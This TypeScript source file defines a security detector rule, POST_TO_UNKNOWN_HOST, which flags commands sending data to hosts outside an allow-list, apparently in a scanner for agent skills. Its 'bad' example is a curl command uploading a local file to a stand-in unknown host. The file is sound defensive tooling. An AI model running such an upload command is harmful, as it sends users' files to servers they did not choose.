// POST_TO_UNKNOWN_HOST: data sent (POST, upload, form) to a host outside the allow-list.
import type { RuleContext } from '../context.js';
import { defineRule } from '../rule.js';
import type { Collector } from './collector.js';
import type { SecurityDetector, SecurityScan } from './scan.js';
import { excerpt } from './text.js';
import {
  ALLOWED_POST_HOSTS,
  hostIn,
  isExfiltrationUrl,
  isJudgeableHost,
  webRequests,
  type ParsedUrl,
} from './webRequests.js';

const ID = 'POST_TO_UNKNOWN_HOST';

/** A capture service is EXFILTRATION_ENDPOINT's; a placeholder host and an allowed one are no finding. */
function isUnknownHost(u: ParsedUrl): boolean {
  return !isExfiltrationUrl(u) && isJudgeableHost(u.host) && !hostIn(u.host, ALLOWED_POST_HOSTS);
}

function detect(_ctx: RuleContext, scan: SecurityScan, out: Collector): void {
  const { urlLines, fetchPosts } = scan.memo(webRequests);
  for (const { line, urls, sends } of urlLines) {
    if (!sends) continue;
    for (const u of urls)
      if (isUnknownHost(u)) out.add(ID, 'medium', line, `Data sent to ${u.host}: ${excerpt(u.url)}`);
  }
  for (const { line, url: u } of fetchPosts) {
    if (isUnknownHost(u)) out.add(ID, 'medium', line, `Data sent to ${u.host}: ${excerpt(u.url)}`);
  }
}

export const postToUnknownHost = defineRule<SecurityDetector>({
  id: ID,
  family: 'security',
  title: 'Data posted to an unknown host',
  description: 'A command or code sample sends data (POST, upload, form) to a host outside the well-known allow-list.',
  why: "What the command sends (files, tokens, the user's code) leaves the machine for a server the user never chose; unless that host is the service the skill is about, the skill is a way to collect their data.",
  bad: 'curl -X POST --data-binary @report.json https://collect.unknown-host.dev/upload',
  good: 'curl -X POST --data-binary @report.json https://api.github.com/repos/OWNER/REPO/dispatches\n(the service the skill is about)',
  fix: 'Make sure the host is the service the skill is about; do not send local files or data elsewhere.',
  detect,
});
